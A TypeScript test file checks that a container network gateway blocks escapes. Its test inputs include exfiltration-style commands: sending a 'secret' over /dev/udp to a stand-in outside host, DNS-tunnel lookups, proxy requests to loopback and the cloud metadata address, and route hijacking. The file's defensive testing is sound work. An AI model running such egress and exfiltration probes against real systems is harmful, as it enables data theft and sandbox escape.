/**
 * recipes/containers: the gateway by the very arguments, addresses and kernel settings of compose.yaml, between namespaces
 * that stand for containers. What holds a container in is its network; here it tries the ways around.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { type Followed, until } from '../lifecycle/conditions.ts';
import { createWorld, NODE, SAND, type World } from '../sand.ts';
import { type ContainerNetwork, createContainerNetwork, type Place } from './container-network.ts';

const RECIPE = new URL('../../../recipes/containers/', import.meta.url).pathname;
const compose = parse(readFileSync(join(RECIPE, 'compose.yaml'), 'utf8'));
const { gateway: service, job } = compose.services;
const GATEWAY: string = service.networks.jobs.ipv4_address;
const OUTSIDE = '192.0.2.10';
const inNetwork = (last: number) => GATEWAY.replace(/\d+$/, String(last));
const NEIGHBOUR = inNetwork(4);

let world: World;
let network: ContainerNetwork;
let gateway: Followed;
let outside: Followed;

beforeAll(async () => {
  world = createWorld();
  const recipe = readFileSync(join(RECIPE, 'gateway.policy.yaml'), 'utf8');
  const policy = world.file(
    'gateway.policy.yaml',
    recipe.replace('rules:\n', 'rules:\n  - {allow: allowed.origin.test, http: [80]}\n'),
  );
  const resolvConf = world.file('resolv.conf', `nameserver ${OUTSIDE}\noptions timeout:1 attempts:1\n`);
  network = await createContainerNetwork({
    job: inNetwork(3),
    neighbour: NEIGHBOUR,
    gateway: GATEWAY,
    outside: OUTSIDE,
    gatewayOutside: '192.0.2.2',
    // A host of Docker has switched it on, and a new namespace takes that over.
    sysctls: [['net.ipv4.ip_forward', '1'], ...Object.entries<string>(service.sysctls)],
    resolvConf,
  });
  outside = network.start('outside', ['python3', new URL('outside.py', import.meta.url).pathname, OUTSIDE]);
  await outside.printed('ready');
  const args = (service.command as string[]).map((word) => (word.startsWith('/etc/') ? policy : word));
  gateway = network.start('gateway', [NODE, SAND, ...args], world.environment);
  await gateway.printed('confines nobody');
  const neighbour = network.start('neighbour', [
    'python3',
    '-u',
    '-m',
    'http.server',
    '80',
    '--bind',
    NEIGHBOUR,
  ]);
  await neighbour.printed('Serving');
});

afterAll(async () => {
  network?.close();
  world?.remove();
});

/** As a job's container: with the variables that compose.yaml gives it, or without any. */
async function at(place: Place, line: string, isTold = true) {
  const ran = network.start(place, ['sh', '-c', line], isTold ? job.environment : {});
  const code = await ran.ended();
  return { code, output: ran.stdout() + ran.stderr() };
}

describe('a container behind the gateway', () => {
  it('reaches what the policy allows by the variables that it is given, and nothing else', async () => {
    expect(await at('job', 'curl -sS http://allowed.origin.test/')).toMatchObject({
      code: 0,
      output: 'hello from allowed.origin.test\n',
    });
    const denied = await at('job', 'curl -sS -i http://denied.origin.test/');
    expect(denied.output).toMatch(/^HTTP\/1\.1 403 Forbidden \(sand: no-rule\)/);
    expect(await at('job', 'curl -sS https://allowed.origin.test:8443/')).toMatchObject({ code: 56 });
  });

  it('gets nowhere without them', async () => {
    for (const line of [
      `curl -sS --max-time 3 http://${OUTSIDE}/`,
      'curl -sS --max-time 3 http://allowed.origin.test/',
      `dig +tries=1 +time=1 @${OUTSIDE} allowed.origin.test`,
      `echo secret > /dev/udp/${OUTSIDE}/9999`,
    ]) {
      const { code, output } = await at('job', `exec bash --norc -c '${line}'`, false);
      expect([line, code]).not.toEqual([line, 0]);
      expect(output).toMatch(/unreachable|not resolve|Couldn't connect|Failed to connect/i);
    }
  });

  it('gets nowhere through the gateway by addresses, the gateway itself and its neighbours among them', async () => {
    for (const place of [
      `${OUTSIDE}:80`,
      `${NEIGHBOUR}:80`,
      `${GATEWAY}:3128`,
      '127.0.0.1:80',
      '169.254.169.254:80',
    ]) {
      const { output } = await at(
        'job',
        `curl -sS --noproxy none.invalid -o /dev/null -w '%{http_connect}' -p http://${place}/`,
      );
      expect([place, output.slice(0, 3)]).toEqual([place, '403']);
    }
  });

  it('gets nowhere by making the gateway its router, even with the power over its own network', async () => {
    expect((await at('job', `ip route add default via ${GATEWAY}`)).code).toBe(0);
    await at('job', `exec bash --norc -c 'echo routed > /dev/udp/${OUTSIDE}/9999'`, false);
    await at('job', `curl -sS --max-time 1 http://${OUTSIDE}/`, false);
    // From where it may: what was sent before it has come by then, or does not come.
    await at('gateway', `exec bash --norc -c 'echo marker > /dev/udp/${OUTSIDE}/9999'`, false);
    await until('the marker', () => outside.stdout().includes('datagram marker'));
    expect(outside.stdout()).not.toContain('routed');
    expect(outside.stdout()).not.toContain(inNetwork(3));
    // The same with the setting of a host of Docker: what compose.yaml sets is what stops it.
    await at('gateway', 'sysctl -qw net.ipv4.ip_forward=1');
    await at('job', `exec bash --norc -c 'echo through > /dev/udp/${OUTSIDE}/9999'`, false);
    await until('the datagram', () => outside.stdout().includes(`datagram through\n from ${inNetwork(3)}`));
    await at('gateway', 'sysctl -qw net.ipv4.ip_forward=0');
    await at('job', 'ip route del default');
  });

  it('can ask the resolver of the gateway, which answers allowed names alone', async () => {
    const dig = (name: string) => at('job', `dig +short +tries=1 +time=5 -p 5300 @${GATEWAY} ${name}`);
    expect((await dig('allowed.origin.test')).output).toBe(`${OUTSIDE}\n`);
    expect((await dig('secret-data.denied.test')).output).toBe('');
    expect(outside.stdout()).not.toContain('secret-data');
  });

  it('reaches its neighbours: the gateway stands between them and the world, not between them', async () => {
    expect(
      (await at('job', `curl -sS -o /dev/null -w '%{http_code}' http://${NEIGHBOUR}/`, false)).output,
    ).toBe('200');
  });

  it('is on record as whoever uses this gateway', async () => {
    const events = await world.events();
    expect(events[0]).toMatchObject({ kind: 'run-start', confinement: 'cooperative' });
    const denied = events.filter((event) => 'verdict' in event && event.verdict === 'deny');
    expect(denied).toContainEqual(
      expect.objectContaining({ kind: 'connection', host: 'denied.origin.test' }),
    );
    expect(denied).toContainEqual(expect.objectContaining({ kind: 'dns', name: 'secret-data.denied.test' }));
  });
});
